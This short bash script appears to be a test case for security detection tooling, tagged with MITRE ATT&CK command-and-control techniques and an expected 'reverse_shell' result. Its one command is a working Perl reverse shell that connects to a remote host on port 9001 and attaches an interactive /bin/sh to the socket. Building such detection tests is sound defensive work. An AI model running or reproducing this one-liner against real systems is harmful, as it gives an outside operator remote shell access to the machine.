#!/usr/bin/env bash
# tactic: command-and-control
# technique: T1059 Command and Scripting Interpreter; T1095 Non-Application Layer Protocol
# behaviour: a Perl one-liner opens a socket to the operator, reopens STDIN/STDOUT/STDERR on it and execs a shell
# as: user
# needs: remote
# expect: reverse_shell
set -u
timeout 20 perl -e 'use Socket;$i=$ARGV[0];$p=9001;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};' "$SNTL_REMOTE" || true
